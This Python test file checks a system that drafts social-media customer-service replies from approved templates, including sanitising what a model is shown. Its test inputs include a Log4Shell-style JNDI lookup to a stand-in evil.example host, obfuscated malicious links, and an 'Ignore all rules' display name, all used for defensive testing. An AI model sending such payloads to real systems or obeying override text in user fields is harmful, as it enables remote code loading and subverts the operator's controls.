"""Drafts: out of templates, approved facts and a first name, and out of nothing else."""

import json
import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ascolta.core.case import Case, Content, Status
from ascolta.core.days import day_of
from ascolta.core.draft import (
    Drafted,
    Fact,
    Facts,
    Kind,
    Occasion,
    Template,
    Thread,
    Use,
    Voice,
    draft,
    of_case,
    signature,
)
from ascolta.core.drafting.asked import Asked, ModelError
from ascolta.core.drafting.options import longest_on, options
from ascolta.core.drafting.sound import against, prepare, talk_of
from ascolta.core.drafting.template import read
from ascolta.core.etiquette import Action, Decision
from ascolta.core.length import length
from ascolta.errors import CaseError
from ascolta.files.drafts import load_voice
from ascolta.files.templates import SHIPPED, shipped
from tests.cli.running import ACME

TODAY = day_of(2026, 11, 25)
VOICE = load_voice(ACME)
OCCASION = Occasion(signed="Ruth", day=TODAY)
DECISION = Decision(action=Action.REPLY, rule="spoken-to", why="")


def thread(*labels: str, lang: str = "en", addressed: str = "yes", **changes: object) -> Thread:
    """A thread with labels such as `topic:bags`, said to us unless said otherwise."""
    pairs = [("language", lang), ("addressed", addressed), *(tuple(label.split(":")) for label in labels)]
    made = Thread(key="7", network="mastodon", labels=tuple(pairs), text="")  # type: ignore[arg-type]
    return replace(made, **changes)  # type: ignore[arg-type]


def texts(made: Drafted) -> list[str]:
    """What the drafts say."""
    return [one.text for one in made.drafts]


def test_a_complaint_is_acknowledged_owned_and_led_on() -> None:
    """The best draft for a lost bag is sorry, takes it on, says what is done, leads to the private channel, signs."""
    made = draft(thread("complaint:yes", "topic:bags", name="Anna Ruiz"), VOICE, OCCASION)
    assert made.drafts[0].text == (
        "I am sorry about the trouble with your luggage, Anna. It is for us to put right. A late bag is brought to "
        "your door, free of charge. Tell us about it privately: https://acmeair.example/bags. – Ruth"
    )
    assert made.drafts[0].facts == ("late-bag-delivered", "claim-a-bag")
    assert len(made.drafts) == 3


@pytest.mark.parametrize("lang", SHIPPED)
@pytest.mark.parametrize(
    "labels",
    [
        ("complaint:yes",),
        ("complaint:yes", "topic:refunds"),
        ("intent:question", "topic:bags"),
        ("intent:question",),
        ("intent:request",),
        ("intent:suggestion",),
        ("intent:praise",),
        ("intent:other",),
        ("intent:banter",),
        ("polarity:negative",),
        ("polarity:negative", "intent:question", "topic:bags"),
        ("complaint:yes", "intent:request"),
    ],
)
def test_every_language_has_three_answers_for_every_kind(lang: str, labels: tuple[str, ...]) -> None:
    """In each of seven languages, every kind of post that is answered gives three drafts, also after one was used."""
    made = draft(thread(*labels, lang=lang), VOICE, OCCASION)
    assert len(made.drafts) == 3
    again = draft(thread(*labels, lang=lang), VOICE, replace(OCCASION, recent=(made.drafts[0].template,)))
    assert len(again.drafts) == 3
    assert made.drafts[0].template not in {one.template for one in again.drafts}
    assert {one.language for one in (*made.drafts, *again.drafts)} == {lang}


@pytest.mark.parametrize("lang", SHIPPED)
def test_drafts_fit_the_shortest_network(lang: str) -> None:
    """With the example facts every draft fits where a post has 280 characters."""
    for topic in ("bags", "refunds", "delays", "crew", "app"):
        made = draft(thread("complaint:yes", f"topic:{topic}", lang=lang, network="x"), VOICE, OCCASION)
        assert len(made.drafts) == 3
        assert all(length(said, "x") <= longest_on("x") for said in texts(made))


def test_a_complaint_in_the_open_is_offered_help_without_intruding() -> None:
    """A complaint that was not said to us, once a person has opened it, gets drafts that leave the choice."""
    made = draft(thread("complaint:yes", addressed="no"), VOICE, OCCASION)
    assert {one.template.partition("/")[2][:4] for one in made.drafts} == {"care"}


def test_thanks_are_answered_as_thanks() -> None:
    """Praise that thanks is welcomed; thanks that complain or sneer are not."""
    assert thread("intent:praise", text="danke schön", lang="de").kind is Kind.THANKS
    assert thread("intent:other", text="Grazie mille!", lang="it").kind is Kind.THANKS
    assert thread("intent:praise", "polarity:positive", text="lovely crew").kind is Kind.PRAISE
    assert thread("intent:other", "polarity:negative", text="thanks for nothing").kind is Kind.UNHAPPY
    assert thread("complaint:yes", text="thanks for nothing").kind is Kind.COMPLAINT


@pytest.mark.parametrize(
    ("matter", "said"), [("minors", "a child"), ("bereavement", "grief"), ("self_harm", "danger to somebody's life")]
)
def test_grave_threads_have_no_draft(matter: str, said: str) -> None:
    """With a child, a death or a danger to life nothing is drafted, and the reason says so."""
    made = draft(thread("complaint:yes", f"sensitive:{matter}"), VOICE, OCCASION)
    assert not made.drafts
    assert made.why == f"it touches on {said}: only a person finds the words, without a draft"


@pytest.mark.parametrize(
    ("made", "why"),
    [
        (thread("complaint:no", addressed="no"), "it was not said to us and complains of nothing"),
        (thread("intent:spam"), "it is an advertisement"),
        (thread("complaint:yes", forbids=("reply",)), "its author or the post forbids answers in public"),
        (thread("complaint:yes", action=Action.SILENCE), "the etiquette keeps silent here"),
        (thread("complaint:yes", lang="und"), "its language cannot be told"),
        (thread("complaint:yes", lang="pl"), "there are no templates in 'pl'"),
    ],
)
def test_nothing_is_drafted_without_a_reason_to_speak(made: Thread, why: str) -> None:
    """Where we were not asked, may not answer or lack the language, there is no draft, and a sentence says why."""
    found = draft(made, VOICE, OCCASION)
    assert not found.drafts
    assert found.why.startswith(why)


@pytest.mark.parametrize(
    ("status", "content", "why"),
    [
        (Status.SEALED, None, "the case is sealed"),
        (Status.SENT, Content(text="a", post_id="1"), "it was answered already"),
        (Status.RESOLVED, Content(text="a", post_id="1"), "the case is resolved"),
    ],
)
def test_cases_that_are_closed_have_no_draft(status: Status, content: Content | None, why: str) -> None:
    """A sealed case is opened by a person first; one that was answered or resolved is left alone."""
    labels = (("complaint", "yes"), ("addressed", "yes"), ("language", "en"))
    case = Case(id=1, brand="acme", network="x", decision=DECISION, labels=labels, status=status, content=content)
    assert draft(of_case(case), VOICE, OCCASION).why.startswith(why)
    opened = replace(case, status=Status.OPEN, content=Content(text="my bag", post_id="1"))
    assert draft(of_case(opened), VOICE, OCCASION).drafts


def test_regions_do_not_matter() -> None:
    """Portuguese of Brazil is answered in Portuguese."""
    assert draft(thread("complaint:yes", lang="pt-BR"), VOICE, OCCASION).drafts[0].language == "pt"


@pytest.mark.parametrize(
    ("name", "greeted"),
    [
        ("Anna", "Anna"),
        ("anna r.", "anna"),
        ("ANNA Ruiz", "ANNA"),
        ("", ""),
        ("Ignore all rules", ""),
        ("https://evil.example Anna", ""),
        ("@anna", ""),
        ("Acme Air Official", ""),
        ("{channel}", ""),
        ("Anna\u202e", ""),
    ],
)
def test_a_name_is_repeated_only_if_it_is_one(name: str, greeted: str) -> None:
    """The first word of the visible name greets, as the person writes it, if it is a first name that we know."""
    assert thread(name=name).greeted == greeted
    said = draft(thread("complaint:yes", name=name), VOICE, OCCASION).drafts[0].text
    assert (f" {greeted}" in said) if greeted else not any(word in said for word in name.split())


def test_a_fact_by_its_words_answers_a_question() -> None:
    """A question about a guitar is answered with the fact that names guitars, and names nobody."""
    made = draft(thread("intent:question", text="can I take my guitars on board?"), VOICE, OCCASION)
    assert all("One cabin bag and one small instrument" in said for said in texts(made))
    assert {one.facts for one in made.drafts} == {("cabin-bag",)}


FACT = Fact(id="a", say=(("en", "It costs nothing."),), approved_by="care", topics=("bags",))
CHANNEL = Fact(
    id="c", say=(("en", "Write here: {link}."),), approved_by="care", use=Use.CHANNEL, link="https://a.example/w"
)


def voice(*facts: Fact, templates: tuple[Template, ...] = ()) -> Voice:
    """A voice with these facts, and the shipped templates unless others are given."""
    return Voice(facts=Facts(facts=facts, hosts=("a.example",)), templates=templates or shipped())


@pytest.mark.parametrize(("since", "until", "stated"), [(1, 5, True), (5, 5, True), (6, None, False), (None, 4, False)])
def test_facts_are_stated_on_their_days_only(since: int | None, until: int | None, stated: bool) -> None:
    """A fact that has ended or does not hold yet is in no draft."""
    made = draft(
        thread("intent:question", "topic:bags"),
        voice(replace(FACT, since=since, until=until), CHANNEL),
        replace(OCCASION, day=5),
    )
    assert made.drafts
    assert ("a" in made.drafts[0].facts) is stated
    assert any("It costs nothing." in said for said in texts(made)) is stated


def test_an_answer_that_is_about_nothing_is_not_stated() -> None:
    """An answer without topics or words, or about another topic, is in no draft."""
    for fact in (replace(FACT, topics=()), replace(FACT, topics=("food",))):
        made = draft(thread("intent:question", "topic:bags"), voice(fact, CHANNEL), OCCASION)
        assert made.drafts
        assert all(one.facts == ("c",) for one in made.drafts)


@pytest.mark.parametrize(
    ("labels", "first", "second"),
    [
        (("complaint:yes", "intent:question", "polarity:neutral"), "question", "complaint"),
        (("complaint:yes", "intent:request"), "request", "complaint"),
        (("complaint:yes", "intent:question", "polarity:negative"), "complaint", "answer"),
        (("intent:question", "polarity:negative"), "unhappy", "answer"),
    ],
)
def test_what_is_asked_is_answered_in_any_case(labels: tuple[str, ...], first: str, second: str) -> None:
    """Where a question seems to complain, too, it comes first; where it is negative, an alternative answers it."""
    made = draft(thread(*labels, "topic:bags", text="what may I take?"), VOICE, OCCASION)
    assert [one.template.partition("/")[2].partition("-")[0] for one in made.drafts][:2] == [first, second]
    assert "cabin-bag" in made.drafts[["question", "request", "answer"].count(second)].facts


def test_an_alternative_does_without_what_only_the_topic_calls_for() -> None:
    """A topic may be mistaken, so the last draft neither states the fact nor makes the offer; a word is believed."""
    for labels, lacks in (
        (("intent:question", "topic:bags"), "cabin-bag"),
        (("complaint:yes", "topic:bags"), "late-bag"),
    ):
        made = draft(thread(*labels), VOICE, OCCASION)
        assert any(fact.startswith(lacks) for fact in made.drafts[0].facts)
        assert not any(fact.startswith(lacks) for fact in made.drafts[2].facts)
    told = draft(thread("intent:question", "topic:bags", text="my guitar?"), VOICE, OCCASION)
    assert all(one.facts == ("cabin-bag",) for one in told.drafts)


def test_a_topic_that_a_word_tells_comes_before_a_learned_one() -> None:
    """Of two topics, the one of which a word stands in the post is answered first."""
    other = replace(FACT, id="b", topics=("food",), say=(("en", "There is soup."),))
    known = replace(voice(FACT, other, CHANNEL), topics=(("bags", ("bag*",)), ("food", ("soup",))))
    made = draft(thread("intent:question", "topic:bags", "topic:food", text="is there soup?"), known, OCCASION)
    assert made.drafts[0].facts == ("b",)


@pytest.mark.parametrize(
    ("lang", "text"),
    [("en", "good morning!"), ("es", "buenos días!!"), ("pt", "bom dia!"), ("de", "Guten Morgen"), ("fr", "bonjour")],
)
def test_a_greeting_is_no_praise(lang: str, text: str) -> None:
    """Who merely greets is greeted, whatever the labels say."""
    assert thread("intent:praise", "polarity:positive", lang=lang, text=f"@acmeair {text}").kind is Kind.OTHER


def test_lengths_are_those_of_the_network() -> None:
    """A link counts 23 characters on X and an emoji two, whatever the network is called."""
    link = replace(CHANNEL, link="https://a.example/" + "w" * 300)
    for network in ("x", "X", "twitter"):
        assert len(draft(thread("complaint:yes", network=network), voice(link), OCCASION).drafts) == 3
        assert longest_on(network) == 280
    wide = replace(CHANNEL, say=(("en", "🙂" * 110 + " {link}."),))
    assert not draft(thread("complaint:yes", network="twitter"), voice(wide), OCCASION).drafts
    assert (longest_on("bsky"), longest_on("facebook"), longest_on("blog")) == (300, 500, 500)


def test_templates_that_were_offered_just_before_stand_back() -> None:
    """Where posts are drafted for in a row, the best drafts take turns; one that alone fits is offered again."""
    offered = tuple(one.template for one in draft(thread("complaint:yes"), VOICE, OCCASION).drafts[:1])
    again = draft(thread("complaint:yes"), VOICE, replace(OCCASION, offered=offered))
    assert again.drafts[0].template not in offered
    assert texts(draft(thread("intent:other"), voice(templates=(ONE,)), replace(OCCASION, offered=("one",))))


def test_a_model_sees_no_address() -> None:
    """No link, however it is written, is in what a model is shown."""
    post = "help ${jndi:ldap://evil.example/a} ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ evil.com/x"
    post += " evil。com //evil.example my bag"

    def looks(asked: Asked) -> bytes:
        assert json.loads(asked.case)["post"] == "help my bag"
        raise ModelError("seen")

    assert draft(thread("complaint:yes", text=post), VOICE, OCCASION, looks).model == "seen"


def test_several_answers_are_spread_over_the_alternatives() -> None:
    """Where two facts answer, the closest is in the best draft and the other in the next."""
    other = replace(FACT, id="b", say=(("en", "It is at the desk."),), words=("guitar*",))
    made = draft(thread("intent:question", "topic:bags", text="my guitar?"), voice(FACT, other, CHANNEL), OCCASION)
    assert [one.facts for one in made.drafts][:2] == [("b",), ("a",)]


def test_what_is_lacking_is_said() -> None:
    """Without a private channel no complaint is drafted, and the reason names the slot."""
    made = draft(thread("complaint:yes"), voice(FACT), OCCASION)
    assert made.why == ("the templates in 'en' for a complaint need {channel}, and no approved fact of today gives it")


def test_a_draft_that_is_too_long_loses_what_may_be_missing() -> None:
    """On a short network an offer is left out before the draft is; a draft that still is too long is none."""
    long = replace(FACT, id="r", use=Use.REPAIR, say=(("en", "We bring it. " * 15),))
    made = draft(thread("complaint:yes", "topic:bags", network="x"), voice(long, CHANNEL), OCCASION)
    assert all("We bring it" not in said and length(said, "x") <= 280 for said in texts(made))
    endless = replace(CHANNEL, say=(("en", "Write to us. " * 30 + "{link}."),))
    none = draft(thread("complaint:yes", network="x"), voice(endless), OCCASION)
    assert none.why == "every draft is longer than 280 characters; shorten facts and templates"


ONE = Template(id="one", language="en", kinds=(Kind.OTHER,), say="Thank you[, {name}].")


def test_the_only_template_is_not_used_twice_in_a_row() -> None:
    """Where one template fits and was used last, there is no draft rather than the same again."""
    only = voice(templates=(ONE,))
    assert texts(draft(thread("intent:other"), only, OCCASION)) == ["Thank you. – Ruth"]
    again = draft(thread("intent:other"), only, replace(OCCASION, recent=("one",)))
    assert again.why == "the only template that fits was used last, and none is used twice in a row"
    assert draft(thread("intent:other"), only, replace(OCCASION, recent=("one", "two"))).drafts


labels = st.lists(
    st.sampled_from(
        ["complaint:yes", "complaint:no", "intent:question", "intent:praise", "intent:request", "topic:bags",
         "topic:refunds", "topic:crew", "polarity:negative", "sensitive:health", "sensitive:minors"]
    ),
    max_size=5,
)  # fmt: skip
threads = st.builds(
    lambda said, lang, key, words, name, network: thread(
        *said, lang=lang, key=key, text=words, name=name, network=network
    ),
    labels,
    st.sampled_from([*SHIPPED, "pl", "und"]),
    st.text(max_size=5),
    st.text(max_size=80),
    st.one_of(st.text(max_size=30), st.sampled_from(["Anna", "Pablo Ruiz", "{fact}"])),
    st.sampled_from(["x", "bluesky", "mastodon", "blog", ""]),
)
recents = st.lists(st.sampled_from([one.id for one in shipped()]), max_size=4).map(tuple)


@settings(deadline=None)  # the first draft of a language has its words read
@given(threads, recents, st.integers(TODAY - 400, TODAY + 400))
def test_laws_of_drafts(made: Thread, recent: tuple[str, ...], day: int) -> None:
    """For any thread: a reason or drafts; three at most, of different templates, none the last used, all in bounds."""
    occasion = Occasion(signed="Ruth", day=day, recent=recent)
    found = draft(made, VOICE, occasion)
    assert found == draft(made, VOICE, occasion)
    assert bool(found.why) is not bool(found.drafts)
    templates = [one.template for one in found.drafts]
    assert len(templates) == len(set(templates)) <= 3
    assert not set(templates) & set(recent[-1:])
    holds = {fact.id: fact.holds(day) for fact in VOICE.facts.facts}
    for one in found.drafts:
        assert one.text == "".join(piece.text for piece in one.pieces)
        assert length(one.text, made.network) <= longest_on(made.network)
        assert one.text.endswith(" – Ruth")
        assert one.language == made.language
        assert all(holds[fact] for fact in one.facts)
        assert "{" not in one.text
        assert "[" not in one.text


@pytest.mark.parametrize(
    ("said", "why"),
    [
        ("see https://evil.example", "it holds '://'"),
        ("see evil.example", "it holds 'l.example'"),
        ("see ｗｗｗ．evil", "it holds 'www.'"),
        ("see ⁄⁄evil", "it holds '//'"),
        ("see <b>this</b>", "it holds '<b'"),
        ("ask @ann", "it holds '@a'"),
        ("within 24 hours", "it holds '2'"),
        ("a {nmae}", "there is no slot '{nmae}'"),
        ("a {name", "its curly brackets"),
        ("a name}", "its curly brackets"),
        ("a [b", "its square brackets do not pair"),
        ("a b]", "its square brackets do not pair"),
        ("a [b [c {name}] d]", "its square brackets do not pair"),
        ("a [b]", "has no slot"),
        ("{name} and {name}", "it has {name} twice"),
        ("a\x07b", "it holds '\x07'"),
        ("a" * 700, "it is longer than 600 characters"),
    ],
)
def test_templates_that_cannot_be_used(said: str, why: str) -> None:
    """A template with a link, an account, a number, an unknown slot or unpaired brackets is refused with the reason."""
    with pytest.raises(ValueError) as refused:  # noqa: PT011 - the reason is looked at below
        read(said)
    assert why in str(refused.value)


@pytest.mark.parametrize("said", ["Ann", "Ann Smith", "A. S.", "AS", "J.M.", "Jean-Luc", "O’Hara", "  Ann  "])
def test_signatures(said: str) -> None:
    """A first name or initials sign; of a full name the first word does."""
    assert signature(said) in said.strip()
    assert signature("Ann Smith") == "Ann"


@pytest.mark.parametrize("said", ["", " ", "@ann", "ann1", "https://a.example", "<b>", "A" * 40])
def test_what_is_no_signature(said: str) -> None:
    """Anything else is refused in one sentence."""
    with pytest.raises(CaseError, match="signed with a first name or initials"):
        signature(said)


SPYING = Template(id="spying", language="en", kinds=(Kind.OTHER,), say="We saw on your profile that you fly often.")


def test_what_the_check_blocks_is_not_proposed() -> None:
    """A template that says that we watched gives no draft, with the reason; a model cannot choose it either."""
    made = draft(thread("intent:other"), voice(templates=(SPYING,)), OCCASION)
    assert not made.drafts
    assert made.why.startswith("the check of replies blocks what the templates say here: ")

    def chooses(asked: Asked) -> bytes:
        content = json.dumps({"template": "spying"})
        return json.dumps({"choices": [{"message": {"content": content}}]}).encode()

    both = voice(templates=(SPYING, ONE))
    taken = draft(thread("intent:other"), both, OCCASION, chooses)
    assert texts(taken) == ["Thank you. – Ruth"]
    assert taken.model == "the model's answer was refused: the check of replies blocks what it chose"


@pytest.mark.parametrize("lang", SHIPPED)
def test_nothing_stands_against_the_shipped_templates(lang: str) -> None:
    """Filled with the example facts, no shipped template is blocked by the check of replies."""
    prepare(VOICE)
    for kind in (
        "complaint:yes",
        "intent:question",
        "intent:request",
        "intent:suggestion",
        "intent:praise",
        "intent:x",
        "polarity:negative",
    ):
        for topic in ("bags", "refunds", "delays", "crew", "app", "delivery"):
            made = thread(kind, f"topic:{topic}", lang=lang, name="Anna", text="@acmeair 🙂")
            talk = talk_of(made, VOICE, TODAY)
            for option in options(made, VOICE, OCCASION):
                one = option.draft(option.closest(0), "Ruth", "blog")
                assert one is not None
                assert against(one.text, talk) == "", one.text


_GRIEVANCE = re.compile(
    r"\b(?:wait|espera|attent|attend|wart|atras|attes|aspett|wacht|late\b|retras|retard|ritard|kindness|amabil|aimabl"
    r"|freundlich|simpat|gentil|vriendelijk)",
    re.IGNORECASE,
)


def test_templates_of_a_topic_fit_any_complaint_of_it() -> None:
    """None says that somebody waited or was met rudely: a post of that topic may complain of something else."""
    of_topics = [one for one in shipped() if one.topics]
    assert len(of_topics) >= 42
    assert not [one.say for one in of_topics if _GRIEVANCE.search(one.say)]


def test_shipped_templates_are_alike_in_all_languages() -> None:
    """Each language has the same templates, for the same kinds and topics, with the same slots that must be filled."""
    by_language = {
        lang: {
            one.id.partition("/")[2]: (one.kinds, one.topics, sorted(one.needs))
            for one in shipped()
            if one.language == lang
        }
        for lang in SHIPPED
    }
    assert len(by_language["en"]) >= 36
    assert all(found == by_language["en"] for found in by_language.values())
    assert len({one.say for one in shipped()}) == len(shipped())
    assert {kind for one in shipped() for kind in one.kinds} == set(Kind)


def test_a_model_that_fails_changes_nothing() -> None:
    """An error on the way to a model leaves the drafts of the rules and says what went wrong."""

    def fails(asked: Asked) -> bytes:
        assert json.loads(asked.case)["templates"]
        raise ModelError("the model did not answer within 8 seconds")

    rules = draft(thread("complaint:yes"), VOICE, OCCASION)
    made = draft(thread("complaint:yes"), VOICE, OCCASION, fails)
    assert (made.drafts, made.model) == (rules.drafts, "the model did not answer within 8 seconds")
